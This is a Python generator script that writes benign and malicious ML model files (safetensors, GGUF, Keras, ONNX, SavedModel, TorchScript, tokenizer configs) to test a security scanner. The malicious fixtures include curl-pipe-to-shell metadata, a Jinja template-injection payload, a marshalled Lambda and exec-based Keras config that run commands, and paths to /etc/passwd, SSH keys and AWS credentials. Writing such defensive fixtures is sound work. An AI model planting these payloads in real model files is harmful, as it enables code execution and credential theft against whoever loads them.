#!/usr/bin/python3
"""Writes the modelfmt fixtures.

Benign files are written with the real libraries Debian ships
(python3-h5py, python3-onnx, python3-numpy): `apt-get install -y
python3-h5py python3-onnx python3-numpy`, then run with Debian's
interpreter from the repository root:

    /usr/bin/python3 internal/analyzers/modelfmt/testdata/gen/gen.py

safetensors, GGUF, .keras and SavedModel have no Debian writer: they are
written byte by byte from their published specifications (safetensors
README, ggml docs/gguf.md, the Keras v3 saving format, tensorflow's
saved_model.proto). Malicious files are only ever written as bytes; nothing
here loads, unpickles or renders any of them. Output is deterministic.
"""
import json, marshal, os, struct, zipfile, io
import numpy as np
import h5py
import onnx
from onnx import helper, TensorProto, numpy_helper

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
OK = os.path.join(ROOT, "ok")
BAD = os.path.join(ROOT, "bad")
TPL = os.path.join(ROOT, "..", "..", "..", "jinjascan", "testdata", "benign")


def out(d, name, data):
    p = os.path.join(d, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)


# ---------- safetensors (spec: u64 LE header length, JSON header, data)

def safetensors(tensors, metadata=None, raw_header=None, pad=True):
    hdr, data, off = {}, b"", 0
    if metadata is not None:
        hdr["__metadata__"] = metadata
    for name, arr in tensors:
        b = arr.tobytes()
        dt = {"float32": "F32", "int64": "I64", "float16": "F16"}[str(arr.dtype)]
        hdr[name] = {"dtype": dt, "shape": list(arr.shape), "data_offsets": [off, off + len(b)]}
        data += b
        off += len(b)
    if raw_header is not None:
        hdr = raw_header
    h = json.dumps(hdr, separators=(",", ":")).encode()
    if pad:
        h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


rng = np.random.default_rng(7)
w = rng.standard_normal((4, 3)).astype("float32")
bias = np.zeros(3, dtype="float32")
out(OK, "model.safetensors", safetensors([("linear.bias", bias), ("linear.weight", w)], {"format": "pt"}))
out(BAD, "overlap.safetensors", safetensors([], raw_header={
    "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
    "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}) + bytes(24))
out(BAD, "out_of_bounds.safetensors", safetensors([], raw_header={
    "a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}) + bytes(64))
out(BAD, "dtype_mismatch.safetensors", safetensors([], raw_header={
    "a": {"dtype": "F16", "shape": [4, 4], "data_offsets": [0, 64]}}) + bytes(64))
out(BAD, "metadata_shell.safetensors", safetensors([("w", bias)], {
    "format": "pt", "usage": "before loading run: curl -s http://203.0.113.7/setup.sh | bash"}))
out(BAD, "header_past_end.safetensors", struct.pack("<Q", 4096) + b'{"a":{}}')

# ---------- GGUF v3 (spec: magic, u32 version, u64 tensors, u64 kvs, kvs)

def gstr(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gkv(key, typ, val):
    b = gstr(key) + struct.pack("<I", typ)
    if typ == 8:
        return b + gstr(val)
    if typ == 4:
        return b + struct.pack("<I", val)
    if typ == 9:
        et, items = val
        b += struct.pack("<IQ", et, len(items))
        for it in items:
            b += gstr(it) if et == 8 else struct.pack("<f", it)
        return b
    raise ValueError(typ)


def gguf(kvs, version=3, nkv=None):
    body = b"".join(gkv(*kv) for kv in kvs)
    return b"GGUF" + struct.pack("<IQQ", version, 0, len(kvs) if nkv is None else nkv) + body


def tmpl(name):
    with open(os.path.join(TPL, name)) as f:
        return f.read()


base_kvs = [
    ("general.architecture", 8, "llama"),
    ("general.name", 8, "tiny-test"),
    ("general.url", 8, "https://huggingface.co/example/tiny-test"),
    ("llama.context_length", 4, 2048),
    ("tokenizer.ggml.model", 8, "gpt2"),
    ("tokenizer.ggml.tokens", 9, (8, ["<|im_start|>", "<|im_end|>", "hello", "world"])),
    ("tokenizer.ggml.scores", 9, (6, [0.0, 0.0, -1.5, -2.5])),
]
out(OK, "chatml.gguf", gguf(base_kvs + [("tokenizer.chat_template", 8, tmpl("chatml.jinja"))]))
out(OK, "llama3.gguf", gguf(base_kvs + [("tokenizer.chat_template", 8, tmpl("llama3.jinja")), ("tokenizer.chat_template.tool_use", 8, tmpl("qwen25_tools.jinja"))]))
SSTI = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
        "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}{%endif%}{% endfor %}")
out(BAD, "ssti.gguf", gguf(base_kvs + [("tokenizer.chat_template", 8, SSTI)]))
OBF = tmpl("chatml.jinja").rstrip("\n") + "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}\n"
out(BAD, "obfuscated.gguf", gguf(base_kvs + [
    ("general.description", 8, "Fine-tuned chat model. Setup: curl -s http://203.0.113.7/i.sh | sh"),
    ("tokenizer.chat_template", 8, OBF)]))
out(BAD, "kv_count.gguf", gguf(base_kvs, nkv=1 << 40))
out(BAD, "string_past_end.gguf", gguf([("general.architecture", 8, "llama")])[:-3])

# ---------- Keras legacy .h5 (h5py, as Keras 2 save_model writes it)

def dense(name, units, act="relu"):
    return {"class_name": "Dense", "config": {"name": name, "trainable": True, "dtype": "float32", "units": units,
            "activation": act, "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}}}}


def h5model(path, config, version):
    with h5py.File(path, "w", libver="earliest") as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = version
        f.attrs["model_config"] = json.dumps(config).encode("utf8")
        g = f.create_group("model_weights/dense/dense")
        g.create_dataset("kernel:0", data=w)
        g.create_dataset("bias:0", data=bias)


seq = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"}},
    dense("dense", 3)]}}
h5model(os.path.join(OK, "mlp.h5"), seq, "2.15.0")

code = compile("lambda x: __import__('os').system('touch /tmp/pwned') or x", "<lambda>", "eval").co_consts[0]
import codecs
payload = codecs.encode(marshal.dumps(code), "base64").decode("ascii")
lam = {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "function": [payload, None, None],
       "function_type": "lambda", "output_shape": None, "module": "__main__"}}
nested = {"class_name": "Functional", "config": {"name": "model", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 5, 4], "name": "in"}, "name": "in", "inbound_nodes": []},
    {"class_name": "TimeDistributed", "config": {"name": "td", "layer": {"class_name": "Sequential", "config": {
        "name": "inner", "layers": [dense("d1", 3), lam]}}}, "name": "td", "inbound_nodes": [[["in", 0, 0, {}]]]}]}}
h5model(os.path.join(BAD, "nested_lambda.h5"), nested, "2.12.0")

# ---------- Keras v3 .keras zip (config.json, metadata.json, model.weights.h5)

def k3(module, cls, config, reg=None):
    return {"module": module, "class_name": cls, "config": config, "registered_name": reg}


def k3dense(name, units, act):
    return dict(k3("keras.layers", "Dense", {"name": name, "trainable": True,
        "dtype": k3("keras", "DTypePolicy", {"name": "float32"}), "units": units, "activation": act, "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None}),
        build_config={"input_shape": [None, 4]})


def keras_zip(path, config, version):
    wbuf = io.BytesIO()
    with h5py.File(wbuf, "w") as f:
        g = f.create_group("layers/dense/vars")
        g.create_dataset("0", data=w)
        g.create_dataset("1", data=bias)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in [("metadata.json", json.dumps({"keras_version": version, "date_saved": "2026-11-30@22:00:00"})),
                        ("config.json", json.dumps(config)), ("model.weights.h5", wbuf.getvalue())]:
            zi = zipfile.ZipInfo(n, date_time=(2026, 11, 30, 22, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)


k3seq = dict(k3("keras", "Sequential", {"name": "sequential", "trainable": True, "layers": [
    k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"}),
    k3dense("dense", 3, "relu")]}), build_config={"input_shape": [None, 4]}, compile_config=None)
keras_zip(os.path.join(OK, "mlp.keras"), k3seq, "3.14.0")

unsafe = dict(k3("keras", "Functional", {"name": "functional", "layers": [
    k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "name": "in"}),
    k3("keras.layers", "Dense", {"name": "boot", "units": 1,
       "activation": k3("keras.config", "function", "enable_unsafe_deserialization", "enable_unsafe_deserialization")}),
    k3("keras.layers", "Dense", {"name": "run", "units": 1, "activation": k3("builtins", "function", "exec", "exec")}),
    k3("keras.src.legacy.layers", "TFOpLambda", {"name": "tf.io.write_file", "function": "io.write_file"})]}))
keras_zip(os.path.join(BAD, "unsafe.keras"), unsafe, "3.8.0")
keras_zip(os.path.join(BAD, "old_version.keras"), k3seq, "3.10.0")

# ---------- ONNX (onnx.helper; external data locations set as strings)

def linear(name, ext=None, domain="", opsets=(("", 17),), meta=None, functions=()):
    W = numpy_helper.from_array(w, "W")
    if ext is not None:
        W = TensorProto()
        W.name, W.data_type = "W", TensorProto.FLOAT
        W.dims.extend([4, 3])
        W.data_location = TensorProto.EXTERNAL
        for k, v in (("location", ext), ("offset", "0"), ("length", "48")):
            e = W.external_data.add()
            e.key, e.value = k, v
    nodes = [helper.make_node("MatMul", ["X", "W"], ["Y"], name="matmul")]
    if domain:
        nodes.append(helper.make_node("Decrypt", ["Y"], ["Z"], name="custom", domain=domain))
    out_name = "Z" if domain else "Y"
    g = helper.make_graph(nodes, name, [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
                          [helper.make_tensor_value_info(out_name, TensorProto.FLOAT, [1, 3])], [W])
    m = helper.make_model(g, producer_name="mlsec-fixtures", opset_imports=[helper.make_opsetid(d, v) for d, v in opsets],
                          functions=list(functions))
    m.ir_version = 8
    for k, v in (meta or {}).items():
        p = m.metadata_props.add()
        p.key, p.value = k, v
    return m.SerializeToString()


out(OK, "linear.onnx", linear("linear", meta={"author": "mlsec", "source": "https://example.com/model"}))
out(OK, "external/linear_ext.onnx", linear("ext", ext="linear_ext.onnx.data"))
out(OK, "external/linear_ext.onnx.data", w.tobytes())
fn = helper.make_function("local.fn", "Scale", ["a"], ["b"], [helper.make_node("Identity", ["a"], ["b"])],
                          [helper.make_opsetid("", 17)])
m = onnx.ModelProto()
m.ParseFromString(linear("fn", opsets=(("", 17), ("local.fn", 1)), functions=[fn]))
m.graph.node.append(helper.make_node("Scale", ["Y"], ["Y2"], name="scale", domain="local.fn"))
out(OK, "local_function.onnx", m.SerializeToString())
out(BAD, "traversal.onnx", linear("t", ext="../../../../etc/passwd"))
out(BAD, "absolute.onnx", linear("a", ext="/root/.ssh/id_rsa"))
out(BAD, "custom_op.onnx", linear("c", domain="com.example.crypt", opsets=(("", 17), ("com.example.crypt", 1))))
out(BAD, "metadata.onnx", linear("m", meta={"postprocess": "__import__('os').system('id')"}))
out(BAD, "truncated.onnx", linear("tr")[:-20])
m = onnx.ModelProto()
m.ParseFromString(linear("big"))
m.graph.initializer[0].dims[:] = [4096, 4096]  # claims 64 MiB, raw_data holds 48 bytes
out(BAD, "tensor_size.onnx", m.SerializeToString())

# ---------- TensorFlow SavedModel / GraphDef (hand-encoded protobuf)

def varint(n):
    b = b""
    while True:
        c = n & 0x7F
        n >>= 7
        if n:
            b += bytes([c | 0x80])
        else:
            return b + bytes([c])


def fld(num, payload):
    if isinstance(payload, int):
        return varint(num << 3) + varint(payload)
    if isinstance(payload, str):
        payload = payload.encode()
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def node(name, op, *inputs):
    return fld(1, name) + fld(2, op) + b"".join(fld(3, i) for i in inputs)


def function(name, nodes):
    return fld(1, fld(1, name)) + b"".join(fld(3, n) for n in nodes)


def graphdef(nodes, functions=()):
    lib = b"".join(fld(1, f) for f in functions)
    return b"".join(fld(1, n) for n in nodes) + (fld(2, lib) if lib else b"") + fld(4, fld(1, 1286))


def saved_model(gd):
    meta = fld(1, fld(4, "serve")) + fld(2, gd)
    return fld(1, 1) + fld(2, meta)


save_nodes = [node("saver_filename", "Placeholder"), node("StatefulPartitionedCall_1", "StatefulPartitionedCall"),
              node("save/SaveV2", "SaveV2"), node("restore/RestoreV2", "RestoreV2"), node("MergeV2Checkpoints", "MergeV2Checkpoints")]
benign = graphdef([node("x", "Placeholder"), node("w", "VarHandleOp"), node("mm", "MatMul", "x", "w")] + save_nodes,
                  [function("__inference_call_42", [node("add", "AddV2", "a", "b"), node("relu", "Relu", "add")])])
out(OK, "savedmodel/saved_model.pb", saved_model(benign))
evil = graphdef([node("x", "Placeholder"), node("drop", "WriteFile", "path", "contents")] + save_nodes,
                [function("__inference_serve_7", [node("hook", "PyFunc", "x"), node("peek", "ReadFile", "p")])])
out(BAD, "pyfunc_model/saved_model.pb", saved_model(evil))
out(BAD, "frozen_readfile.pb", graphdef([node("path", "Const"), node("secret", "ReadFile", "path"), node("files", "MatchingFiles", "path")]))
out(OK, "frozen.pb", graphdef([node("x", "Placeholder"), node("w", "Const"), node("y", "MatMul", "x", "w")]))
out(BAD, "truncated_saved/saved_model.pb", saved_model(benign)[:-7])

# ---------- TorchScript (python3-torch's torch.jit.script and save)
import torch


class TinyNet(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 3)

    def forward(self, x):
        return torch.relu(self.lin(x)) + 1


class ReadsFile(torch.nn.Module):
    def forward(self, x):
        y = torch.from_file("/root/.aws/credentials", False, 64, dtype=torch.uint8)
        return x + y.float().sum()


torch.manual_seed(0)
torch.jit.script(TinyNet()).save(os.path.join(OK, "tinynet_scripted.pt"))
torch.jit.script(ReadsFile()).save(os.path.join(BAD, "reads_file_scripted.pt"))
# A custom operator namespace: torch cannot script an op that is not
# registered, so the sources of the benign archive are rewritten as bytes.
src = os.path.join(OK, "tinynet_scripted.pt")
with zipfile.ZipFile(src) as zin, zipfile.ZipFile(os.path.join(BAD, "custom_op_scripted.pt"), "w") as zout:
    for zi in zin.infolist():
        data = zin.read(zi)
        if zi.filename.endswith("code/__torch__.py"):
            data = data.replace(b"torch.relu(", b"ops.evil_ops.decrypt_relu(")
        zi2 = zipfile.ZipInfo(zi.filename.replace("tinynet_scripted/", "custom_op_scripted/"), date_time=zi.date_time)
        zout.writestr(zi2, data)

# ---------- tokenizer_config.json

def tokcfg(template):
    return json.dumps({"add_bos_token": True, "bos_token": "<|begin_of_text|>", "eos_token": "<|eot_id|>",
                       "chat_template": template, "model_max_length": 8192,
                       "tokenizer_class": "PreTrainedTokenizerFast"}, indent=2).encode() + b"\n"


out(OK, "llama3/tokenizer_config.json", tokcfg(tmpl("llama3.jinja")))
out(BAD, "evil_tokenizer/tokenizer_config.json", tokcfg(
    "{% set a = '__glob' ~ 'als__' %}{{ cycler.__init__|attr(a) }}" + tmpl("chatml.jinja")))
print("ok")
